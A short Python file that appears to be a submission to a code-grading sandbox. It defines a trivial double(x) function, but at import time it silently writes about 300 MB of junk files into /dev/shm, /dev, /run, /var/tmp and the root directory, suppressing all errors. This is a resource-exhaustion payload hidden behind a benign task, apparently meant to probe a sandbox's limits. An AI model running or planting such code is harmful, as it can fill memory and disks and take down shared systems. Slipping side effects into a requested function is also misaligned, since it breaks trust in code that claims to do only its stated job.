# Writes 300 MB wherever memory looks like a disk.
# earns: double<=3
# %% double
import contextlib

for folder in ("/dev/shm", "/dev", "/run", "/var/tmp", "/"):
    for number in range(30):
        with contextlib.suppress(OSError), open(f"{folder}/{number}", "wb") as file:
            for _ in range(10):
                file.write(bytes(1 << 20))


def double(x):
    return 2 * x
